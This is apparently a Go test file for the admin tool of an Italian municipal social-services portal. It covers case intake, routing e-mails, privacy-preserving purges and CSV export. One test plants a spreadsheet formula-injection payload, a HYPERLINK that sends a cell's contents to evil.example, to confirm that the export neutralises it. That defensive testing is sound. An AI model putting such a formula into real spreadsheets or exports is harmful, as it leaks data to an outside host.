package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"mime/quotedprintable"
	"net/mail"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/shaps-portal/shaps/intake"
	"github.com/shaps-portal/shaps/intake/office"
	"github.com/shaps-portal/shaps/intake/office/boltstore"
	"github.com/shaps-portal/shaps/intake/spool"
	"github.com/shaps-portal/shaps/intake/sqsqueue"
	"github.com/shaps-portal/shaps/intake/sqsqueue/sqstest"
)

type env struct {
	t     *testing.T
	vars  map[string]string
	clock time.Time
}

func newEnv(t *testing.T) *env {
	dir := t.TempDir()
	return &env{t: t, clock: time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC), vars: map[string]string{
		"SHAPS_QUEUE": "spool", "SHAPS_SPOOL_DIR": filepath.Join(dir, "spool"), "SHAPS_CASES": filepath.Join(dir, "cases.db"),
		"SHAPS_OUTBOX": filepath.Join(dir, "outbox"), "SHAPS_DATA": "../../../data", "SHAPS_ADMIN": "operatrice",
		"SHAPS_MAIL_FROM":  "Servizi sociali <servizisociali@comune.voghera.pv.it>",
		"SHAPS_STATUS_DIR": filepath.Join(dir, "status"), "SHAPS_SIGNING_KEY_FILE": filepath.Join(dir, "signing-key"),
		"SHAPS_SIGNING_KEY": "the admin command's tests sign with this",
	}}
}

func (e *env) admin(args ...string) string {
	e.t.Helper()
	var out, errb bytes.Buffer
	if err := run(context.Background(), args, func(k string) string { return e.vars[k] }, nil, &out, &errb, func() time.Time { return e.clock }); err != nil {
		e.t.Fatalf("admin %v: %v\n%s", args, err, errb.String())
	}
	return out.String()
}

// submit sends a request through the intake, as the portal's form does, into the spool.
func (e *env) submit(r intake.Request) string {
	e.t.Helper()
	s, err := spool.Open(e.vars["SHAPS_SPOOL_DIR"])
	if err != nil {
		e.t.Fatal(err)
	}
	cat, err := intake.LoadCatalog(os.DirFS("../../../data"), e.clock)
	if err != nil {
		e.t.Fatal(err)
	}
	in := &intake.Intake{Queue: s, Directory: cat, CodePrefix: "VG", Now: func() time.Time { return e.clock }}
	rc, errs, err := in.Submit(context.Background(), intake.Submission{Request: r})
	if err != nil || errs != nil {
		e.t.Fatalf("submit: %v %v", errs, err)
	}
	return rc.Code
}

var (
	private = intake.Request{Kind: "richiesta", Category: "compagnia-assistenza", Message: "Mia madre, 84 anni, è sola tutto il giorno: cerchiamo compagnia.",
		Name: "Giulia Bianchi", Email: "giulia.bianchi@example.org", Phone: "+39 333 7654321", ContactPreference: "email", Area: "Medassino", Privacy: true}
	shared = intake.Request{Kind: "richiesta", Category: "trasporto-sociale", Message: "Mi serve un passaggio per la dialisi il martedì.",
		Name: "Mario Rossi", Phone: "0383 999888", ContactPreference: "phone", ShareContact: true, Privacy: true}
	report = intake.Request{Kind: "segnalazione", Category: "aiuto-alimentare", Message: "Una famiglia del quartiere non ha da mangiare.", ContactPreference: "none", Privacy: true}
)

func TestEndToEnd(t *testing.T) {
	e := newEnv(t)
	codePrivate, codeShared, codeReport := e.submit(private), e.submit(shared), e.submit(report)

	if out := e.admin("pull"); !strings.Contains(out, "received 3, new cases 3") {
		t.Fatalf("pull: got %q, want 3 new cases", out)
	}
	if out := e.admin("pull"); !strings.Contains(out, "received 0") {
		t.Fatalf("second pull: got %q, want nothing left", out)
	}
	if out := e.admin("list", "-status", "new"); countCases(out) != 3 {
		t.Errorf("list: got\n%s\nwant the 3 new cases", out)
	}
	if out := e.admin("route", codePrivate); !strings.Contains(out, "filo-d-argento-iriense") {
		t.Errorf("route without -to: got %q, want suggestions with the associations of the category", out)
	}

	e.clock = e.clock.Add(3 * time.Hour)
	e.admin("route", codePrivate, "-to", "filo-d-argento-iriense,ascolto-e-presenza", "-note", "Urgente")
	e.admin("route", codeShared, "-to", "croce-azzurra-oltrepo")
	emls, _ := filepath.Glob(filepath.Join(e.vars["SHAPS_OUTBOX"], "*.eml"))
	if len(emls) != 4 {
		t.Fatalf("got %d e-mails in the outbox, want 3 to associations and 1 notice to the citizen who left an e-mail", len(emls))
	}
	var notices []string
	for _, f := range emls {
		if strings.HasSuffix(f, "-cittadino.eml") {
			notices = append(notices, f)
		}
	}
	if len(notices) != 1 || !strings.Contains(notices[0], codePrivate) {
		t.Fatalf("got notices %v, want one for %s", notices, codePrivate)
	}
	notice := decoded(t, notices[0])
	if !strings.Contains(notice, "To: <giulia.bianchi@example.org>") || !strings.Contains(notice, "inoltrata a: Filo d'Argento Iriense ODV, Ascolto e Presenza ODV") {
		t.Errorf("notice to the citizen:\n%s\nwant it addressed to her and naming the associations", notice)
	}
	for _, f := range emls {
		if strings.HasSuffix(f, "-cittadino.eml") {
			continue
		}
		fi, _ := os.Stat(f)
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, want 0600", filepath.Base(f), fi.Mode().Perm())
		}
		b := decoded(t, f)
		switch {
		case strings.Contains(f, codePrivate):
			for _, leak := range []string{"giulia.bianchi", "7654321", "Giulia"} {
				if strings.Contains(b, leak) {
					t.Errorf("%s: holds %q although the citizen did not agree to share it", filepath.Base(f), leak)
				}
			}
			if !strings.Contains(b, "indicando il codice "+codePrivate) {
				t.Errorf("%s: want the line saying to answer through the Comune", filepath.Base(f))
			}
		case strings.Contains(f, codeShared):
			if !strings.Contains(b, "Telefono: 0383 999888") || !strings.Contains(b, "Mario Rossi") {
				t.Errorf("%s: want the contact the citizen agreed to share", filepath.Base(f))
			}
		}
		if !strings.Contains(b, "Subject: [VG-") || !strings.Contains(b, "Content-Type: text/plain; charset=utf-8") || !strings.Contains(b, "ricevuta il\n25/11/2026 10:00") {
			t.Errorf("%s: want the code in the subject, a UTF-8 body and the local time of receipt:\n%s", filepath.Base(f), b)
		}
	}
	golden(t, emls, codePrivate, "filo-d-argento-iriense")

	e.clock = e.clock.Add(21 * time.Hour)
	e.admin("close", codePrivate, "-outcome", "resolved")
	e.admin("close", codeReport, "-outcome", "not-competent")
	e.admin("reopen", codeReport)
	e.admin("close", codeReport, "-outcome", "duplicate")
	var s struct {
		Total          int
		ByStatus       map[string]int `json:"by_status"`
		ByCategory     map[string]int `json:"by_category"`
		ByAssociation  map[string]int `json:"by_association"`
		MedianToRouted string         `json:"median_to_routed"`
		MedianToClosed string         `json:"median_to_closed"`
	}
	if err := json.Unmarshal([]byte(e.admin("stats")), &s); err != nil {
		t.Fatal(err)
	}
	if s.Total != 3 || s.ByStatus["closed"] != 2 || s.ByStatus["routed"] != 1 || s.ByAssociation["filo-d-argento-iriense"] != 1 || s.MedianToRouted != "3h0m0s" || s.MedianToClosed != "24h0m0s" {
		t.Errorf("stats: got %+v", s)
	}
	csv := e.admin("export", "-format", "csv")
	if strings.Count(csv, "\n") != 4 || strings.Contains(csv, "Giulia") || strings.Contains(csv, "dialisi") {
		t.Errorf("export: got\n%s\nwant a header and 3 anonymous lines", csv)
	}

	store := e.vars["SHAPS_CASES"]
	if !bytes.Contains(mustRead(t, store), []byte("giulia.bianchi@example.org")) {
		t.Fatal("the store should hold the citizen's e-mail before the purge")
	}
	out := e.admin("purge", "-older-than", "0d")
	if !strings.Contains(out, "2 case(s) purged") {
		t.Errorf("purge: got %q, want 2 closed cases purged", out)
	}
	b := mustRead(t, store)
	for _, gone := range []string{"giulia.bianchi@example.org", "7654321", "Giulia Bianchi", "84 anni", "non ha da mangiare"} {
		if bytes.Contains(b, []byte(gone)) {
			t.Errorf("after the purge the store file still holds %q", gone)
		}
	}
	if !bytes.Contains(b, []byte("dialisi")) {
		t.Errorf("the open case must keep its data")
	}
	left, _ := filepath.Glob(filepath.Join(e.vars["SHAPS_OUTBOX"], "*.eml"))
	for _, f := range left {
		if b := mustRead(t, f); bytes.Contains(b, []byte("Giulia")) || bytes.Contains(b, []byte("giulia.bianchi")) || strings.Contains(f, codePrivate) || strings.Contains(f, codeReport) {
			t.Errorf("after the purge the outbox still holds %s, about a purged case", filepath.Base(f))
		}
	}
	if len(left) == 0 {
		t.Errorf("the outbox lost the e-mails of the open case too")
	}
	if out := e.admin("show", codePrivate); !strings.Contains(out, "compagnia-assistenza") || strings.Contains(out, "Giulia") {
		t.Errorf("a purged case: got\n%s\nwant its category and no personal data", out)
	}
	st, err := boltstore.Open(store)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	trail, _ := st.Audit()
	if len(trail) < 10 {
		t.Errorf("audit trail: got %d entries, want every change recorded", len(trail))
	}
	for _, a := range trail {
		if a.Actor == "" || a.At.IsZero() || strings.Contains(a.Detail, "Giulia") {
			t.Errorf("audit entry %+v: want who and when, and no personal data", a)
		}
	}
}

var volatile = regexp.MustCompile(`(?m)^(Message-ID|Date): .*$`)

// golden compares one forwarded e-mail with testdata/forward.eml (-update rewrites it).
// signature is an answer link's signature in a quoted-printable body, soft line breaks included.
var signature = regexp.MustCompile(`(?s)firma=3D.*?&scade`)

func golden(t *testing.T, emls []string, code, assoc string) {
	t.Helper()
	for _, f := range emls {
		if !strings.Contains(f, code+"-"+assoc) {
			continue
		}
		got := volatile.ReplaceAll(mustRead(t, f), []byte("$1: …"))
		got = signature.ReplaceAll(got, []byte("firma=3D…&scade")) // made from the code, which changes
		got = bytes.ReplaceAll(got, []byte(code), []byte("VG-CODE-00"))
		want := "testdata/forward.eml"
		if os.Getenv("SHAPS_UPDATE_GOLDEN") != "" {
			_ = os.MkdirAll("testdata", 0o755)
			_ = os.WriteFile(want, got, 0o644)
		}
		if w := mustRead(t, want); !bytes.Equal(got, w) {
			t.Errorf("forwarded e-mail differs from %s (SHAPS_UPDATE_GOLDEN=1 rewrites it):\n%s", want, got)
		}
		return
	}
	t.Errorf("no e-mail for %s to %s", code, assoc)
}

// decoded returns an e-mail's headers and its body with the quoted-printable undone.
func decoded(t *testing.T, path string) string {
	t.Helper()
	m, err := mail.ReadMessage(bytes.NewReader(mustRead(t, path)))
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(quotedprintable.NewReader(m.Body))
	if err != nil {
		t.Fatal(err)
	}
	var h strings.Builder
	for k, v := range m.Header {
		h.WriteString(k + ": " + strings.Join(v, ", ") + "\n")
	}
	return h.String() + "\n" + strings.ReplaceAll(string(body), "\r\n", "\n")
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestPullAfterCrash: a pull that stored a case and died before deleting the message leaves it on
// the queue; the next pull makes no second case and loses nothing.
func TestPullAfterCrash(t *testing.T) {
	e := newEnv(t)
	code := e.submit(private)
	e.submit(report)
	s, _ := spool.Open(e.vars["SHAPS_SPOOL_DIR"])
	ds, _ := s.Receive(context.Background(), 1) // taken, stored, never deleted: the crash
	c, err := office.FromEnvelope(ds[0].Body)
	if err != nil {
		t.Fatal(err)
	}
	st, err := boltstore.Open(e.vars["SHAPS_CASES"])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Add(c, "pull", e.clock); err != nil {
		t.Fatal(err)
	}
	st.Close()
	out := e.admin("pull")
	if !strings.Contains(out, "received 2, new cases 1, already known 1") {
		t.Errorf("pull after a crash: got %q, want one new and one already known", out)
	}
	if list := e.admin("list"); countCases(list) != 2 || !strings.Contains(list, code) {
		t.Errorf("list: got\n%s\nwant exactly the two cases", list)
	}
}

// TestTwoAdminsAtOnce: two pulls running together share the store and the spool without
// duplicating a case.
func TestTwoAdminsAtOnce(t *testing.T) {
	e := newEnv(t)
	for range 20 {
		e.submit(report)
		e.clock = e.clock.Add(time.Second)
		e.submit(shared)
	}
	var wg sync.WaitGroup
	for range 2 {
		wg.Add(1)
		go func() { defer wg.Done(); e.admin("pull") }()
	}
	wg.Wait()
	if list := e.admin("list"); countCases(list) != 40 {
		t.Errorf("got %d cases, want 40", countCases(list))
	}
}

// TestSQSRedelivery: against goaws on loopback, a message received but not deleted comes back
// after the visibility timeout and still becomes one case.
func TestSQSRedelivery(t *testing.T) {
	srv := sqstest.Start(t)
	url := srv.QueueURL(t, sqstest.Queue)
	srv.Drain(t, url)
	q, _ := sqsqueue.New(srv.Client(), url)
	cat, _ := intake.LoadCatalog(os.DirFS("../../../data"), time.Now())
	in := &intake.Intake{Queue: q, Directory: cat, CodePrefix: "VG", Now: time.Now}
	rc, _, err := in.Submit(context.Background(), intake.Submission{Request: report})
	if err != nil {
		t.Fatal(err)
	}
	e := newEnv(t)
	e.vars["SHAPS_QUEUE"], e.vars["SHAPS_SQS_QUEUE_URL"], e.vars["AWS_ENDPOINT_URL_SQS"] = "sqs", url, srv.Endpoint
	e.vars["SHAPS_AWS_ACCESS_KEY_ID"], e.vars["SHAPS_AWS_SECRET_ACCESS_KEY"], e.vars["SHAPS_AWS_REGION"] = "test", "test", srv.Region

	// A first reader stores the case and dies before deleting.
	inbox := sqsqueue.NewInbox(srv.Client(), url, 0)
	ds, err := inbox.Receive(context.Background(), 10)
	if err != nil || len(ds) != 1 {
		t.Fatalf("receive: %v, %d messages", err, len(ds))
	}
	c, _ := office.FromEnvelope(ds[0].Body)
	st, _ := boltstore.Open(e.vars["SHAPS_CASES"])
	_, _ = st.Add(c, "pull", time.Now())
	st.Close()

	time.Sleep(3 * time.Second) // past the visibility timeout: the message is back
	out := e.admin("pull")
	if !strings.Contains(out, "received 1, new cases 0, already known 1") {
		t.Errorf("pull after redelivery: got %q, want the message recognised as the known case", out)
	}
	if list := e.admin("list"); countCases(list) != 1 || !strings.Contains(list, rc.Code) {
		t.Errorf("got\n%s\nwant one case %s", list, rc.Code)
	}
	if left := srv.Drain(t, url); len(left) != 0 {
		t.Errorf("got %d messages left on the queue, want none", len(left))
	}
}

// countCases counts the lines of a listing that are cases.
func countCases(listing string) int {
	n := 0
	for _, l := range strings.Split(listing, "\n") {
		if strings.HasPrefix(l, "VG-") {
			n++
		}
	}
	return n
}

// TestUnreadableKeptAside: a message this version cannot read (here, from a newer intake) leaves
// the queue into the case store instead of waiting for the dead-letter queue, stays there until
// the storage limit, and is erased with the purge.
func TestUnreadableKeptAside(t *testing.T) {
	e := newEnv(t)
	s, err := spool.Open(e.vars["SHAPS_SPOOL_DIR"])
	if err != nil {
		t.Fatal(err)
	}
	body := `{"version":2,"id":"9b1c7e2a-0000-4000-8000-000000000001","code":"VG-7K4M-Q2","message":"Sono Elena Verdi, mi serve aiuto per la spesa."}`
	if err := s.Enqueue(context.Background(), intake.Message{ID: "9b1c7e2a-0000-4000-8000-000000000001", Body: []byte(body)}); err != nil {
		t.Fatal(err)
	}
	code := e.submit(report)
	out := e.admin("pull")
	for _, want := range []string{"received 2, new cases 1, already known 0, unreadable 1", "1 message(s) this version cannot read are kept aside"} {
		if !strings.Contains(out, want) {
			t.Errorf("pull: got %q, want %q", out, want)
		}
	}
	if ds, _ := s.Receive(context.Background(), 10); len(ds) != 0 {
		t.Errorf("after the pull %d message(s) still on the queue, want none", len(ds))
	}
	if out := e.admin("pull"); !strings.Contains(out, "received 0") || !strings.Contains(out, "1 message(s) this version cannot read") {
		t.Errorf("second pull: got %q, want the message still kept aside", out)
	}
	if list := e.admin("list"); countCases(list) != 1 || !strings.Contains(list, code) {
		t.Errorf("list: got\n%s\nwant the one readable case", list)
	}
	kept := []byte(base64.StdEncoding.EncodeToString([]byte(body))) // as the store keeps it
	raw, _ := os.ReadFile(e.vars["SHAPS_CASES"])
	if !bytes.Contains(raw, kept) {
		t.Fatal("the store should hold the unreadable message before the purge")
	}
	e.clock = e.clock.Add(24 * time.Hour)
	if out := e.admin("purge", "-older-than", "0d"); !strings.Contains(out, "erased 1 unreadable message(s)") {
		t.Errorf("purge: got %q, want the message kept aside erased", out)
	}
	if raw, _ := os.ReadFile(e.vars["SHAPS_CASES"]); bytes.Contains(raw, kept) {
		t.Error("after the purge the store file still holds the message kept aside")
	}
}

// TestExportLeavesTypedAreasOut: the export gives areas as the purge keeps them, the typed ones
// only when asked, and no cell that a spreadsheet runs.
func TestExportLeavesTypedAreasOut(t *testing.T) {
	e := newEnv(t)
	typed := report
	typed.Area = `=HYPERLINK("https://evil.example/?"&A1,"Apri") via Emilia 12`
	known := report
	known.Area = "Medassino"
	e.submit(typed)
	e.submit(known)
	e.admin("pull")
	out := e.admin("export", "-format", "csv")
	if strings.Contains(out, "Emilia") || strings.Contains(out, "HYPERLINK") || !strings.Contains(out, ",Medassino,") {
		t.Errorf("export: got\n%s\nwant the known area and not the typed one", out)
	}
	out = e.admin("export", "-format", "csv", "-typed-areas")
	if !strings.Contains(out, `"'=HYPERLINK(""https://evil.example/?""&A1,""Apri"") via Emilia 12"`) {
		t.Errorf("export -typed-areas: got\n%s\nwant the typed area, as text", out)
	}
}

// TestRouteFromThePortalsData: without SHAPS_MAIL_FROM the e-mail comes from portal.yaml's
// contact.email, and it names the service by its title with a link to its page.
func TestRouteFromThePortalsData(t *testing.T) {
	e := newEnv(t)
	delete(e.vars, "SHAPS_MAIL_FROM")
	r := shared
	r.Association, r.Service = "filo-d-argento-iriense", "filo-d-argento-iriense/telefono-amico"
	code := e.submit(r)
	e.admin("pull")
	e.admin("route", code, "-to", "filo-d-argento-iriense")
	emls, _ := filepath.Glob(filepath.Join(e.vars["SHAPS_OUTBOX"], "*-"+code+"-filo-d-argento-iriense.eml"))
	if len(emls) != 1 {
		t.Fatalf("got %d e-mails to the association, want 1", len(emls))
	}
	b := decoded(t, emls[0])
	for _, want := range []string{"From: \"Comune di Voghera\" <servizisociali@comune.voghera.pv.it>",
		"Servizio indicato: Telefono amico\n  https://shaps.comune.voghera.pv.it/servizi/filo-d-argento-iriense/telefono-amico/\n"} {
		if !strings.Contains(b, want) {
			t.Errorf("e-mail lacks %q:\n%s", want, b)
		}
	}
	if strings.Contains(b, "Servizio indicato: filo-d-argento-iriense/telefono-amico") {
		t.Errorf("the service is named by its slug:\n%s", b)
	}
}

// TestLanguageIsAFile: the office's language is a message file; one that does not exist stops
// the commands that write, with the languages there are.
func TestLanguageIsAFile(t *testing.T) {
	e := newEnv(t)
	code := e.submit(report)
	e.admin("pull")
	e.vars["SHAPS_ADMIN_LANG"] = "xx"
	var out bytes.Buffer
	err := run(context.Background(), []string{"route", code, "-to", "croce-azzurra-oltrepo"}, func(k string) string { return e.vars[k] }, nil, &out, &out, func() time.Time { return e.clock })
	if err == nil || !strings.Contains(err.Error(), "SHAPS_ADMIN_LANG") || !strings.Contains(err.Error(), "[it]") {
		t.Errorf("route with SHAPS_ADMIN_LANG=xx: got %v, want an error naming the variable and the languages", err)
	}
	e.vars["SHAPS_ADMIN_LANG"] = "it"
	if out := e.admin("route", code, "-to", "croce-azzurra-oltrepo"); !strings.Contains(out, "routed to") {
		t.Errorf("route in Italian: got %q", out)
	}
}

// TestListAndShowTheLanguage: the list has the language each request was sent from and filters
// by it; show says it.
func TestListAndShowTheLanguage(t *testing.T) {
	e := newEnv(t)
	ro := report
	ro.Language = "ro"
	codeRO, codeIT := e.submit(ro), e.submit(private)
	e.admin("pull")
	list := e.admin("list")
	if !regexp.MustCompile(`(?m)^`+codeRO+`\s.*\sro\s`).MatchString(list) || !regexp.MustCompile(`(?m)^`+codeIT+`\s.*\sit\s`).MatchString(list) || !strings.Contains(list, "LANG") {
		t.Errorf("list: got\n%s\nwant a LANG column with ro for %s and it for %s", list, codeRO, codeIT)
	}
	if list := e.admin("list", "-lang", "ro"); countCases(list) != 1 || !strings.Contains(list, codeRO) {
		t.Errorf("list -lang ro: got\n%s\nwant %s alone", list, codeRO)
	}
	var out bytes.Buffer
	err := run(context.Background(), []string{"list", "-lang", "fr"}, func(k string) string { return e.vars[k] }, nil, &out, &out, func() time.Time { return e.clock })
	if err == nil || !strings.Contains(err.Error(), "zh-hans") {
		t.Errorf("list -lang fr: got %v, want an error listing the languages", err)
	}
	if show := e.admin("show", codeRO); !strings.Contains(show, "\nlang: ro\n") {
		t.Errorf("show: got\n%s\nwant lang: ro", show)
	}
}
